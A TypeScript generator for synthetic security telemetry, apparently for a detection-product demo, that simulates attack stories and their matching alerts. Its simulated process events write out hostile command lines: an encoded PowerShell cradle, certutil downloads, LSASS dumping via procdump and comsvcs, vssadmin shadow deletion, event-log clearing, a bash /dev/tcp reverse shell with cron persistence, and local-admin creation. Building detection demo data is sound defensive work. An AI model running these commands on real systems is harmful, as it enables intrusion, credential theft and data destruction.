import type { AlertCollector } from './alerts.js'
import { evidence } from './alerts.js'
import {
  COMMON_DLLS,
  LINUX_BINARIES as LX,
  WINDOWS_BINARIES as W,
  type BinaryDef,
} from './catalog/binaries.js'
import type { DeviceDay } from './device-day.js'
import { fileHashes } from './files.js'
import type { Boots } from './noise-common.js'
import type { UserSession } from './noise-windows.js'
import { rngFor } from './prng.js'
import { SYSTEM_ACCOUNT, userAccount, type Proc } from './process.js'
import type { StoryFacts } from './story-facts.js'
import type { DemoDevice, DemoTenant } from './tenant.js'

const H = 3_600_000
const M = 60_000

export interface StepContext {
  dd: DeviceDay
  boots: Boots
  session: UserSession | null
  alerts: AlertCollector
  facts: StoryFacts
}

/** One story's activity on one device-day. */
export interface StoryStep {
  story: string
  device: DemoDevice
  day: number
  /** The step needs the day's interactive session (forces one). */
  needsSession: boolean
  run(ctx: StepContext): void
}

const INCIDENT = { chain: 1001, linux: 1002, brute: 1003, pua: 1100 }

function malware(
  key: string,
  fileName: string,
  folder: string,
  size: number,
  seed: number,
): { bin: BinaryDef; hashKey: string } {
  return {
    bin: {
      key,
      fileName,
      folder,
      os: 'windows',
      company: '',
      product: '',
      version: '',
      description: '',
      originalName: '',
      size,
      signer: null,
    },
    hashKey: `payload:${seed}:${fileName}`,
  }
}

const dll = (name: string) => COMMON_DLLS.find((d) => d.fileName === name)!

/** Story 1+2: phishing document → encoded PowerShell download cradle → certutil → implant → scheduled task. */
function phishing({ dd, session, alerts, facts, boots }: StepContext): void {
  const s = session!
  const { rng, tenant } = dd
  const user = s.user
  const seed = tenant.seed
  const outlook = s.outlook!
  let t = dd.at(s.startMs + 25 * M + rng.int(0, 10 * M))
  const docPath = facts.phishDoc.path(user.accountName)
  dd.file(outlook, t, { action: 'FileCreated', path: docPath, size: 48_640, hashes: facts.phishDoc.hashes })
  const word = dd.spawn(
    outlook,
    W.winword,
    `"${W.winword.folder}\\WINWORD.EXE" /n "${docPath}" /o ""`,
    (t = dd.later(t, 20_000, 60_000)),
  )
  dd.imageLoad(word, dd.later(t, 1, 100), dll('ntdll.dll'))
  dd.imageLoad(word, dd.later(t, 100, 900), dll('clr.dll'))
  t = dd.later(t, 15_000, 40_000)
  const cmdLine = `powershell.exe -nop -w hidden -enc ${facts.encodedCommand}`
  dd.event(word, t, 'AsrOfficeChildProcessAudited', {
    FileName: 'powershell.exe',
    FolderPath: `${W.powershell.folder}\\powershell.exe`,
    ProcessCommandLine: cmdLine,
    additional: { IsAudit: true, RuleId: 'd4f940ab-401b-4efc-aadc-ad5f3c50688a' },
  })
  const ps = dd.spawn(word, W.powershell, cmdLine, t)
  for (const n of ['amsi.dll', 'clr.dll', 'wininet.dll']) dd.imageLoad(ps, dd.later(t, 10, 400), dll(n))
  dd.event(ps, dd.later(t, 500, 900), 'PowerShellCommand', { additional: { Command: 'Invoke-Expression' } })
  dd.event(ps, dd.later(t, 500, 900), 'PowerShellCommand', { additional: { Command: 'New-Object' } })
  const cradleAt = dd.later(t, 1000, 3000)
  dd.network(ps, cradleAt, {
    remoteIp: facts.attacker.cradleIp,
    remotePort: 80,
    remoteUrl: facts.attacker.cradleHost,
  })
  t = dd.later(cradleAt, 30_000, 90_000)
  const cmd = dd.spawn(
    ps,
    W.cmd,
    `"C:\\Windows\\system32\\cmd.exe" /c certutil.exe -urlcache -split -f ${facts.implant.url} ${facts.implant.downloadPath}`,
    t,
  )
  const certutil = dd.spawn(
    cmd,
    W.certutil,
    `certutil.exe  -urlcache -split -f ${facts.implant.url} ${facts.implant.downloadPath}`,
    (t = dd.later(t)),
  )
  dd.network(certutil, (t = dd.later(t)), {
    remoteIp: facts.attacker.payloadIp,
    remotePort: 80,
    remoteUrl: facts.attacker.payloadUrlHost,
  })
  dd.file(certutil, (t = dd.later(t, 800, 4000)), {
    action: 'FileCreated',
    path: facts.implant.downloadPath,
    size: 318_464,
    hashes: facts.implant.hashes,
    originUrl: facts.implant.url,
    originIp: facts.attacker.payloadIp,
  })
  const m1 = malware('payload:msupdate-public', 'msupdate.exe', 'C:\\Users\\Public', 318_464, seed)
  const implant = dd.spawn(ps, m1.bin, facts.implant.downloadPath, (t = dd.later(t, 20_000, 60_000)), {
    hashKey: m1.hashKey,
    integrity: 'High',
    elevation: 'TokenElevationTypeFull',
    malicious: true,
  })
  dd.network(implant, (t = dd.later(t)), {
    remoteIp: facts.attacker.c2Ip,
    remotePort: 443,
    remoteUrl: facts.attacker.c2Host,
  })
  dd.file(implant, (t = dd.later(t, 2000, 8000)), {
    action: 'FileCreated',
    path: facts.implant.installPath,
    size: 318_464,
    hashes: facts.implant.hashes,
  })
  const first = dd.at(s.startMs)
  alerts.add({
    key: 'ps-cradle',
    device: dd.dev,
    title: 'Suspicious PowerShell command line',
    description:
      'A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities which are used by attackers to invoke modules, download external payloads, or get more information about the system.',
    category: 'Execution',
    severity: 'Medium',
    techniques: ['T1059.001', 'T1027', 'T1105', 'T1566.001'],
    first: ps.created,
    last: cradleAt,
    user,
    incidentId: INCIDENT.chain,
    evidence: [
      evidence.process(ps, cradleAt),
      evidence.process(word, cradleAt, null),
      evidence.file(docPath, facts.phishDoc.hashes, cradleAt),
      evidence.url(facts.cradleUrl, cradleAt),
      evidence.ip(facts.attacker.cradleIp, cradleAt),
    ],
    domains: [facts.attacker.cradleHost],
  })
  alerts.add({
    key: 'certutil',
    device: dd.dev,
    title: 'Suspicious file downloaded using certutil',
    description:
      'The legitimate certutil.exe tool was used to download a file from a remote location, a technique used by attackers to bring tools onto a device while evading defenses.',
    category: 'CommandAndControl',
    severity: 'Medium',
    techniques: ['T1105', 'T1218'],
    first: certutil.created,
    last: t,
    user,
    incidentId: INCIDENT.chain,
    evidence: [
      evidence.process(certutil, t),
      evidence.file(facts.implant.downloadPath, facts.implant.hashes, t),
      evidence.url(facts.implant.url, t),
      evidence.ip(facts.attacker.payloadIp, t),
    ],
    domains: [facts.attacker.payloadUrlHost],
  })
  void first
  // Persistence: scheduled task + Run key.
  t = dd.later(t, 60_000, 180_000)
  const tr = `${facts.implant.installPath}`
  const schtasksCmd = `schtasks.exe /create /tn "${facts.taskName}" /tr "${tr}" /sc daily /st 06:00 /ru SYSTEM /f`
  const schtasks = dd.spawn(implant, W.schtasks, schtasksCmd, t)
  const boot = boots.at(t)
  const sched = boot.get('svchost-netsvcs')
  dd.event(sched, dd.later(t), 'ScheduledTaskCreated', {
    AccountName: user.accountName,
    AccountDomain: user.domain.toLowerCase(),
    AccountSid: user.sid,
    additional: {
      TaskName: facts.taskName,
      TaskContent: `<?xml version="1.0" encoding="UTF-16"?><Task><Triggers><CalendarTrigger><StartBoundary>2024-01-01T06:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers><Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Actions><Exec><Command>${tr}</Command></Exec></Actions></Task>`,
    },
  })
  const treeKey = `HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree${facts.taskName}`
  dd.registry(sched, dd.later(t), { action: 'RegistryKeyCreated', key: treeKey })
  dd.registry(sched, dd.later(t), {
    key: treeKey,
    valueName: 'Id',
    valueType: 'String',
    data: `{${rngFor(seed, 'task').guid().toUpperCase()}}`,
  })
  const runKey = `HKEY_CURRENT_USER\\${user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`
  dd.registry(implant, dd.later(t, 2000, 9000), {
    key: runKey,
    valueName: 'OneDriveUpdate',
    valueType: 'String',
    data: tr,
  })
  alerts.add({
    key: 'schtask',
    device: dd.dev,
    title: 'Suspicious scheduled task',
    description:
      'A scheduled task was created that runs an unsigned executable from ProgramData with SYSTEM privileges. Attackers use scheduled tasks to maintain persistence.',
    category: 'Persistence',
    severity: 'Medium',
    techniques: ['T1053.005'],
    first: schtasks.created,
    last: dd.later(t),
    user,
    incidentId: INCIDENT.chain,
    evidence: [
      evidence.process(schtasks, t),
      evidence.file(facts.implant.installPath, facts.implant.hashes, t),
      evidence.registry(treeKey, 'Id', 'String', t),
    ],
  })
}

/** The implant started by the scheduled task (as SYSTEM), on the finance laptop. */
function taskImplant(ctx: StepContext, atMs: number): Proc {
  const { dd, boots, facts } = ctx
  const when = dd.at(atMs)
  const m = malware(
    'payload:msupdate',
    'msupdate.exe',
    'C:\\ProgramData\\Microsoft\\Update',
    318_464,
    dd.tenant.seed,
  )
  const implant = dd.spawn(boots.at(when).get('svchost-netsvcs'), m.bin, facts.implant.installPath, when, {
    hashKey: m.hashKey,
    account: SYSTEM_ACCOUNT,
    integrity: 'System',
    elevation: 'TokenElevationTypeDefault',
    malicious: true,
  })
  dd.network(implant, dd.later(when), {
    remoteIp: facts.attacker.c2Ip,
    remotePort: 443,
    remoteUrl: facts.attacker.c2Host,
  })
  return implant
}

/** Story 3: LSASS credential dumping with procdump and comsvcs.dll MiniDump. */
function lsassDump(ctx: StepContext): void {
  const { dd, boots, facts, alerts } = ctx
  const implant = taskImplant(ctx, 6 * H + 10 * M + dd.rng.int(0, 5 * M))
  let t = dd.later(implant.created, 60_000, 120_000)
  const lsass = boots.at(t).get('lsass')
  dd.file(implant, t, {
    action: 'FileCreated',
    path: facts.procdump.path,
    size: W.procdump.size,
    hashes: fileHashes(W.procdump.key),
    originUrl: facts.procdump.url,
    originIp: facts.attacker.c2Ip,
  })
  const pd = dd.spawn(
    implant,
    W.procdump,
    `${facts.procdump.path} -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp`,
    (t = dd.later(t, 5000, 20_000)),
    {
      path: facts.procdump.path,
    },
  )
  const lsassTarget = {
    FileName: 'lsass.exe',
    FolderPath: 'C:\\Windows\\System32\\lsass.exe',
    ProcessId: lsass.pid,
    ProcessCreationTime: lsass.created,
  }
  dd.event(pd, (t = dd.later(t)), 'OpenProcessApiCall', {
    ...lsassTarget,
    additional: { DesiredAccess: 2097151 },
  })
  dd.event(pd, dd.later(t), 'AsrLsassCredentialTheftAudited', {
    ...lsassTarget,
    additional: { IsAudit: true, RuleId: '9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2' },
  })
  dd.file(pd, (t = dd.later(t, 2000, 9000)), {
    action: 'FileCreated',
    path: 'C:\\Windows\\Temp\\lsass.dmp',
    size: 52_428_800,
    hashKey: `dump:${dd.tenant.seed}:1`,
  })
  const rd = dd.spawn(
    implant,
    W.rundll32,
    `"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} C:\\Windows\\Temp\\debug.bin full`,
    (t = dd.later(t, 60_000, 200_000)),
  )
  dd.imageLoad(rd, dd.later(t, 1, 50), dll('comsvcs.dll'))
  dd.imageLoad(rd, dd.later(t, 50, 100), dll('dbghelp.dll'))
  dd.event(rd, (t = dd.later(t, 100, 500)), 'OpenProcessApiCall', {
    ...lsassTarget,
    additional: { DesiredAccess: 2097151 },
  })
  dd.file(rd, (t = dd.later(t, 2000, 9000)), {
    action: 'FileCreated',
    path: 'C:\\Windows\\Temp\\debug.bin',
    size: 51_380_224,
    hashKey: `dump:${dd.tenant.seed}:2`,
  })
  dd.network(implant, (t = dd.later(t, 30_000, 90_000)), {
    remoteIp: facts.attacker.c2Ip,
    remotePort: 443,
    remoteUrl: facts.attacker.c2Host,
  })
  const user = dd.dev.user!
  alerts.add({
    key: 'lsass-procdump',
    device: dd.dev,
    title: 'Suspicious access to LSASS memory',
    description:
      'A process read memory of the LSASS process in a way associated with credential theft. Attackers dump LSASS memory to extract credentials for lateral movement.',
    category: 'CredentialAccess',
    severity: 'High',
    techniques: ['T1003.001'],
    first: pd.created,
    last: t,
    user,
    incidentId: INCIDENT.chain,
    evidence: [
      evidence.process(pd, t),
      evidence.process(implant, t),
      evidence.file(facts.implant.installPath, facts.implant.hashes, t),
    ],
  })
  alerts.add({
    key: 'lsass-comsvcs',
    device: dd.dev,
    title: 'Sensitive credential memory read',
    description:
      'rundll32.exe invoked the MiniDump export of comsvcs.dll against the LSASS process, a living-off-the-land way to dump credentials.',
    category: 'CredentialAccess',
    severity: 'High',
    techniques: ['T1003.001', 'T1218.011'],
    first: rd.created,
    last: t,
    user,
    incidentId: INCIDENT.chain,
    evidence: [evidence.process(rd, t)],
  })
}

/** Story 4a: PsExec from the finance laptop to the file server with the stolen admin's credentials. */
function lateralSource(ctx: StepContext): void {
  const { dd, facts } = ctx
  const fs = facts.fileServer!
  const implant = taskImplant(ctx, H + 20 * M)
  const admin = facts.stolenAdmin
  const t = dd.later(implant.created, 60_000, 180_000)
  const psexec = dd.spawn(
    implant,
    W.psexec,
    `C:\\Users\\Public\\PsExec.exe \\\\${fs.shortName} -accepteula -u ${admin.domain}\\${admin.accountName} -p ******** -s -d C:\\ProgramData\\svchostx.exe`,
    t,
    { path: 'C:\\Users\\Public\\PsExec.exe' },
  )
  dd.network(psexec, dd.later(t), { remoteIp: fs.ip, remotePort: 445, remoteUrl: fs.name })
  dd.network(psexec, dd.later(t, 2000, 5000), { remoteIp: fs.ip, remotePort: 135 })
}

/** Story 4b: ransomware on the file server: service install, recovery inhibition, log clearing, mass renames. */
function ransomware(ctx: StepContext): void {
  const { dd, boots, facts, alerts, session } = ctx
  void session
  const { rng, tenant } = dd
  const fin = facts.fin!
  const admin = facts.stolenAdmin
  const acct = userAccount(admin)
  let t = dd.at(H + 24 * M + rng.int(0, 60_000))
  const boot = boots.at(t)
  dd.logon(boot.get('lsass'), t, {
    logonType: 'Network',
    account: acct,
    remoteIp: fin.ip,
    remoteDevice: fin.shortName,
    protocol: 'NTLM',
    isLocalAdmin: true,
  })
  const smb = {
    RequestProtocol: 'SMB',
    RequestSourceIP: fin.ip,
    RequestAccountName: admin.accountName,
    RequestAccountDomain: admin.domain,
    RequestAccountSid: admin.sid,
    ShareName: 'ADMIN$',
  }
  dd.file(boot.root, (t = dd.later(t)), {
    action: 'FileCreated',
    path: 'C:\\Windows\\PSEXESVC.exe',
    size: W.psexesvc.size,
    hashes: fileHashes(W.psexesvc.key),
    extra: smb,
  })
  dd.file(boot.root, (t = dd.later(t)), {
    action: 'FileCreated',
    path: facts.locker.path,
    size: 1_204_224,
    hashes: facts.locker.hashes,
    extra: { ...smb, ShareName: 'C$' },
  })
  dd.event(boot.get('services'), (t = dd.later(t)), 'ServiceInstalled', {
    AccountName: admin.accountName,
    AccountDomain: admin.domain,
    AccountSid: admin.sid,
    additional: {
      ServiceName: 'PSEXESVC',
      ServiceAccount: 'LocalSystem',
      ServiceStartType: 3,
      ServiceType: 16,
      FileName: 'C:\\Windows\\PSEXESVC.exe',
    },
  })
  const svc = dd.spawn(boot.get('services'), W.psexesvc, 'C:\\Windows\\PSEXESVC.exe', (t = dd.later(t)), {
    account: SYSTEM_ACCOUNT,
  })
  const run = (bin: BinaryDef, args: string): Proc => {
    t = dd.later(t, 400, 4000)
    const cmd = dd.spawn(svc, W.cmd, `cmd.exe /c ${args}`, t)
    return dd.spawn(cmd, bin, args, dd.later(t, 20, 200))
  }
  const stops = [
    'MSSQLSERVER',
    'SQLWriter',
    'VSS',
    'wbengine',
    'BackupExecAgentAccelerator',
    'BackupExecJobEngine',
    'veeam',
    'MSExchangeIS',
    'sophos',
    'SAVService',
    'YooBackup',
    'memtas',
  ]
  for (const s of stops) run(W.net, `net stop "${s}" /y`)
  for (const im of [
    'sqlservr.exe',
    'sqlwriter.exe',
    'oracle.exe',
    'ocssd.exe',
    'dbsnmp.exe',
    'excel.exe',
    'winword.exe',
    'outlook.exe',
    'thunderbird.exe',
    'msaccess.exe',
    'onenote.exe',
  ])
    run(W.taskkill, `taskkill.exe /f /im ${im}`)
  const vss = run(W.vssadmin, 'vssadmin.exe delete shadows /all /quiet')
  run(W.wbadmin, 'wbadmin delete catalog -quiet')
  run(W.bcdedit, 'bcdedit /set {default} recoveryenabled no')
  run(W.bcdedit, 'bcdedit /set {default} bootstatuspolicy ignoreallfailures')
  const wevt = run(W.wevtutil, 'wevtutil.exe cl Security')
  dd.event(wevt, dd.later(t), 'SecurityLogCleared', { additional: { Channel: 'Security' } })
  const afterRecovery = t
  const lockerBin = malware('payload:locker', 'svchostx.exe', 'C:\\ProgramData', 1_204_224, tenant.seed)
  const locker = dd.spawn(
    svc,
    lockerBin.bin,
    `${facts.locker.path} -path D:\\Shares -threads 8`,
    (t = dd.later(t, 5000, 20_000)),
    {
      hashKey: lockerBin.hashKey,
      malicious: true,
    },
  )
  const folders = ['Finance', 'HR', 'Projects', 'Public', 'Finance\\Payroll', 'Finance\\Audit']
  const firstRename = dd.later(t, 1000, 3000)
  t = firstRename
  const renames = 300
  for (let i = 0; i < renames; i++) {
    const folder = `D:\\Shares\\${folders[i % folders.length]}`
    const name = `${rng.pick(['Q1', 'Q2', 'Q3', 'Q4', 'FY24', 'FY25'])}-${rng.pick(['ledger', 'payroll', 'plan', 'minutes', 'invoice', 'contract'])}-${i}.${rng.pick(['xlsx', 'docx', 'pdf', 'pptx'])}`
    t = new Date(t.getTime() + rng.int(30, 400))
    dd.file(locker, t, {
      action: 'FileRenamed',
      path: `${folder}\\${name}${facts.locker.extension}`,
      previousPath: `${folder}\\${name}`,
      size: rng.int(20_000, 4_000_000),
      hashKey: `enc:${tenant.seed}:${i}`,
    })
  }
  for (const f of folders)
    dd.file(locker, (t = dd.later(t, 10, 200)), {
      action: 'FileCreated',
      path: `D:\\Shares\\${f}\\${facts.locker.note}`,
      size: 1_742,
      hashKey: `note:${tenant.seed}`,
    })
  dd.event(locker, dd.later(t), 'ControlledFolderAccessViolationAudited', {
    FileName: facts.locker.note,
    FolderPath: `D:\\Shares\\Finance\\${facts.locker.note}`,
  })
  alerts.add({
    key: 'psexec',
    device: dd.dev,
    title: 'Lateral movement using PsExec',
    description: `PsExec was used to run commands on ${dd.dev.shortName} as SYSTEM from ${fin.shortName} with the account ${admin.accountName}.`,
    category: 'LateralMovement',
    severity: 'Medium',
    techniques: ['T1021.002', 'T1569'],
    first: svc.created,
    last: svc.created,
    user: admin,
    incidentId: INCIDENT.chain,
    evidence: [evidence.process(svc, svc.created), evidence.ip(fin.ip, svc.created)],
  })
  alerts.add({
    key: 'backups-deleted',
    device: dd.dev,
    title: 'File backups were deleted',
    description:
      'Volume shadow copies and the backup catalog were deleted, which prevents recovery of encrypted files.',
    category: 'Impact',
    severity: 'High',
    techniques: ['T1490'],
    first: vss.created,
    last: afterRecovery,
    user: admin,
    incidentId: INCIDENT.chain,
    evidence: [evidence.process(vss, afterRecovery)],
  })
  alerts.add({
    key: 'log-cleared',
    device: dd.dev,
    title: 'Event log was cleared',
    description:
      'The Security event log was cleared with wevtutil.exe, a common step to hide attacker activity.',
    category: 'DefenseEvasion',
    severity: 'Medium',
    techniques: ['T1070.001'],
    first: wevt.created,
    last: wevt.created,
    user: admin,
    incidentId: INCIDENT.chain,
    evidence: [evidence.process(wevt, wevt.created)],
  })
  alerts.add({
    key: 'ransomware',
    device: dd.dev,
    title: 'Ransomware behavior detected in the file system',
    description: `A process renamed hundreds of files in D:\\Shares appending ${facts.locker.extension} and dropped ransom notes (${facts.locker.note}).`,
    category: 'Ransomware',
    severity: 'High',
    techniques: ['T1486'],
    first: firstRename,
    last: t,
    user: admin,
    threatFamilyName: 'LockBit',
    threatName: 'Ransom:Win32/LockBit.A',
    incidentId: INCIDENT.chain,
    evidence: [evidence.process(locker, t), evidence.file(facts.locker.path, facts.locker.hashes, t)],
  })
}

/** Story 5: web shell command injection on the Linux web server opening a bash reverse shell. */
function reverseShell(ctx: StepContext): void {
  const { dd, boots, facts, alerts } = ctx
  const { rng, dev } = dd
  let t = dd.at(19 * H + 5 * M + rng.int(0, 10 * M))
  const boot = boots.at(t)
  const ip = facts.attacker.reverseShellIp
  const port = facts.attacker.reverseShellPort
  dd.network(boot.get('nginx-worker'), t, {
    action: 'InboundConnectionAccepted',
    remoteIp: ip,
    remotePort: 443,
    localPort: 443,
  })
  const wwwData = { name: 'www-data', domain: dev.shortName, sid: '', upn: '', objectId: '' }
  const fpm = boot.get('phpfpm-worker')
  const sh = dd.spawn(
    fpm,
    LX.sh,
    `/bin/sh -c "bash -c 'bash -i >& /dev/tcp/${ip}/${port} 0>&1'"`,
    (t = dd.later(t, 200, 900)),
    { account: wwwData },
  )
  const bashC = dd.spawn(
    sh,
    LX.bash,
    `bash -c 'bash -i >& /dev/tcp/${ip}/${port} 0>&1'`,
    (t = dd.later(t, 5, 50)),
  )
  const shell = dd.spawn(bashC, LX.bash, 'bash -i', (t = dd.later(t, 5, 50)))
  dd.network(shell, (t = dd.later(t, 5, 50)), { remoteIp: ip, remotePort: port })
  for (const [bin, cmd] of [
    [LX.id, 'id'],
    [LX.whoami, 'whoami'],
    [LX.uname, 'uname -a'],
    [LX.cat, 'cat /etc/passwd'],
    [LX.ps, 'ps -ef'],
  ] as const)
    dd.spawn(shell, bin, cmd, (t = dd.later(t, 2000, 20_000)))
  const curl = dd.spawn(
    shell,
    LX.curl,
    `curl -fsSL ${facts.revShell.url} -o ${facts.revShell.path}`,
    (t = dd.later(t, 5000, 30_000)),
  )
  dd.network(curl, dd.later(t), { remoteIp: ip, remotePort: 80 })
  dd.file(curl, (t = dd.later(t, 300, 1500)), {
    action: 'FileCreated',
    path: facts.revShell.path,
    size: 2_311,
    hashes: facts.revShell.hashes,
    originUrl: facts.revShell.url,
    originIp: ip,
  })
  const cronCmd = `(crontab -l 2>/dev/null; echo "*/5 * * * * ${facts.revShell.path}") | crontab -`
  const sh2 = dd.spawn(shell, LX.sh, `sh -c '${cronCmd}'`, (t = dd.later(t, 5000, 20_000)))
  const crontab = dd.spawn(sh2, LX.crontab, 'crontab -', (t = dd.later(t)))
  dd.file(crontab, (t = dd.later(t)), {
    action: 'FileModified',
    path: '/var/spool/cron/crontabs/www-data',
    size: 1_127,
    hashKey: `cron:${dd.tenant.seed}`,
  })
  const user = { accountName: 'www-data', domain: dev.shortName, sid: '', objectId: '', upn: '' }
  alerts.add({
    key: 'reverse-shell',
    device: dev,
    title: 'Suspicious reverse shell',
    description: `A web server worker (php-fpm) started an interactive bash whose standard streams are redirected to ${ip}:${port}.`,
    category: 'Execution',
    severity: 'High',
    techniques: ['T1059.004', 'T1190'],
    first: sh.created,
    last: shell.created,
    user,
    incidentId: INCIDENT.linux,
    evidence: [
      evidence.process(shell, shell.created),
      evidence.process(bashC, shell.created, null),
      evidence.ip(ip, shell.created),
    ],
  })
  alerts.add({
    key: 'cron-persist',
    device: dev,
    title: 'Suspicious cron job created',
    description:
      'The web server account installed a cron job that runs a script downloaded to /tmp every five minutes.',
    category: 'Persistence',
    severity: 'Medium',
    techniques: ['T1053.003', 'T1105'],
    first: curl.created,
    last: t,
    user,
    incidentId: INCIDENT.linux,
    evidence: [
      evidence.process(crontab, t),
      evidence.file(facts.revShell.path, facts.revShell.hashes, t),
      evidence.url(facts.revShell.url, t),
    ],
  })
}

/** Story 6: RDP brute force against the internet-facing jump host, then a new local admin. */
function bruteForce(ctx: StepContext): void {
  const { dd, boots, facts, alerts } = ctx
  const { rng } = dd
  const ip = facts.attacker.bruteForceIp
  let t = dd.at(3 * H + rng.int(0, 20 * M))
  const lsass = () => boots.at(t).get('lsass')
  const names = ['administrator', 'admin', 'scanner', 'backup', 'test', 'user1', 'svc-backup']
  const firstTry = t
  for (let i = 0; i < 60; i++) {
    t = new Date(t.getTime() + rng.int(2000, 40_000))
    const name = names[i % names.length]!
    dd.logon(lsass(), t, {
      action: 'LogonFailed',
      logonType: 'Network',
      account: {
        name,
        domain: name === 'svc-backup' ? 'contoso' : dd.dev.shortName,
        sid: '',
        upn: '',
        objectId: '',
      },
      remoteIp: ip,
      remotePort: rng.int(40_000, 65_000),
      protocol: 'NTLM',
      failureReason: 'InvalidUserNameOrPassword',
    })
  }
  const victim = facts.bruteForcedUser
  const acct = userAccount(victim)
  t = dd.later(t, 5000, 30_000)
  const logonId = rng.int(1_000_000, 90_000_000)
  dd.logon(lsass(), t, {
    logonType: 'RemoteInteractive',
    account: acct,
    remoteIp: ip,
    remotePort: rng.int(40_000, 65_000),
    protocol: 'NTLM',
    isLocalAdmin: true,
    logonId,
  })
  const base = {
    account: acct,
    logonId,
    integrity: 'High' as const,
    elevation: 'TokenElevationTypeFull' as const,
    sessionId: 3,
  }
  const ui = dd.spawn(
    boots.at(t).get('winlogon'),
    W.userinit,
    'C:\\Windows\\system32\\userinit.exe',
    dd.later(t),
    base,
  )
  const explorer = dd.spawn(ui, W.explorer, 'C:\\Windows\\Explorer.EXE', dd.later(ui.created), base)
  const cmd = dd.spawn(
    explorer,
    W.cmd,
    '"C:\\Windows\\system32\\cmd.exe"',
    (t = dd.later(explorer.created, 20_000, 60_000)),
  )
  const add = dd.spawn(cmd, W.net, 'net  user helpdesk P@ssw0rd123! /add', (t = dd.later(t, 5000, 20_000)))
  dd.spawn(add, W.net1, 'C:\\Windows\\system32\\net1  user helpdesk P@ssw0rd123! /add', dd.later(t, 5, 50))
  dd.event(lsass(), dd.later(t, 50, 200), 'UserAccountCreated', {
    AccountName: 'helpdesk',
    AccountDomain: dd.dev.shortName,
    AccountSid: `S-1-5-21-3623811015-3361044348-30300820-${1000 + rng.int(1, 50)}`,
  })
  const grp = dd.spawn(
    cmd,
    W.net,
    'net  localgroup administrators helpdesk /add',
    (t = dd.later(t, 5000, 20_000)),
  )
  dd.spawn(
    grp,
    W.net1,
    'C:\\Windows\\system32\\net1  localgroup administrators helpdesk /add',
    dd.later(t, 5, 50),
  )
  dd.event(lsass(), dd.later(t, 50, 200), 'UserAccountAddedToLocalGroup', {
    AccountName: 'helpdesk',
    AccountDomain: dd.dev.shortName,
    additional: { GroupName: 'Administrators', GroupDomainName: 'BUILTIN', GroupSid: 'S-1-5-32-544' },
  })
  alerts.add({
    key: 'bruteforce',
    device: dd.dev,
    title: 'Suspected brute-force attack (RDP)',
    description: `60 failed logons from ${ip} were followed by a successful remote interactive logon of ${victim.accountName}.`,
    category: 'CredentialAccess',
    severity: 'Medium',
    techniques: ['T1110'],
    first: firstTry,
    last: ui.created,
    user: victim,
    incidentId: INCIDENT.brute,
    evidence: [evidence.ip(ip, ui.created)],
  })
  alerts.add({
    key: 'local-admin',
    device: dd.dev,
    title: 'New local admin account created',
    description:
      'A new local account was created and added to the Administrators group from a session that followed a brute-force attack.',
    category: 'Persistence',
    severity: 'Medium',
    techniques: ['T1136.001'],
    first: add.created,
    last: t,
    user: victim,
    incidentId: INCIDENT.brute,
    evidence: [evidence.process(add, t), evidence.process(grp, t)],
  })
}

/** Background: potentially unwanted software blocked by antivirus on a few workstations. */
function puaDetection(ctx: StepContext): void {
  const { dd, alerts, session } = ctx
  const s = session!
  const browser = s.browser ?? s.explorer
  const file = 'SetupOptimizerPro.exe'
  const dir =
    dd.dev.os === 'windows'
      ? `C:\\Users\\${s.user.accountName}\\Downloads`
      : `/Users/${s.user.accountName}/Downloads`
  const path = dd.dev.os === 'windows' ? `${dir}\\${file}` : `${dir}/${file}`
  const t = dd.at(s.startMs + dd.rng.int(30 * M, 5 * H))
  const hashes = dd.file(browser, t, {
    action: 'FileCreated',
    path,
    size: 2_871_296,
    hashKey: 'pua:presenoker',
    originUrl: 'https://dl.optimizer-pro.top/SetupOptimizerPro.exe',
  })
  const av = dd.dev.os === 'windows' ? ctx.boots.at(t).get('msmpeng') : ctx.boots.at(t).get('mdatp')
  dd.event(av, dd.later(t, 1000, 5000), 'AntivirusDetection', {
    FileName: file,
    FolderPath: path,
    SHA1: hashes.sha1,
    SHA256: hashes.sha256,
    MD5: hashes.md5,
    additional: { ThreatName: 'PUA:Win32/Presenoker', WasRemediated: true, Action: 'quarantine' },
  })
  const last = dd.later(t, 1000, 5000)
  const a = alerts.add({
    key: `pua-${dd.dev.index}`,
    device: dd.dev,
    title: "'Presenoker' unwanted software was detected",
    description:
      'Potentially unwanted application PUA:Win32/Presenoker was detected and quarantined by Microsoft Defender Antivirus.',
    category: 'UnwantedSoftware',
    severity: 'Low',
    detectionSource: 'WindowsDefenderAv',
    techniques: [],
    first: t,
    last,
    user: s.user,
    threatFamilyName: 'Presenoker',
    threatName: 'PUA:Win32/Presenoker',
    incidentId: INCIDENT.pua + dd.dev.index,
    evidence: [evidence.file(path, hashes, last, 'Prevented')],
  })
  a.status = 'Resolved'
  a.classification = 'TruePositive'
  a.determination = 'UnwantedSoftware'
  a.investigationState = 'SuccessfullyRemediated'
  a.assignedTo = 'Automation'
  a.resolvedTime = new Date(a.alertCreationTime.getTime() + 40 * M)
  a.lastUpdateTime = a.resolvedTime
}

/** Every story step of a tenant, in a stable order. Steps whose host device is absent are left out. */
export function planStories(tenant: DemoTenant, facts: StoryFacts): StoryStep[] {
  const steps: StoryStep[] = []
  const d = facts.days
  if (facts.fin) {
    steps.push({
      story: 'phishing-powershell-cradle',
      device: facts.fin,
      day: d.phish,
      needsSession: true,
      run: phishing,
    })
    steps.push({
      story: 'lsass-credential-dumping',
      device: facts.fin,
      day: d.lsass,
      needsSession: false,
      run: lsassDump,
    })
    if (facts.fileServer) {
      steps.push({
        story: 'ransomware',
        device: facts.fin,
        day: d.ransom,
        needsSession: false,
        run: lateralSource,
      })
      steps.push({
        story: 'ransomware',
        device: facts.fileServer,
        day: d.ransom,
        needsSession: false,
        run: ransomware,
      })
    }
  }
  if (facts.web)
    steps.push({
      story: 'linux-reverse-shell',
      device: facts.web,
      day: d.linux,
      needsSession: false,
      run: reverseShell,
    })
  if (facts.jump)
    steps.push({
      story: 'rdp-brute-force',
      device: facts.jump,
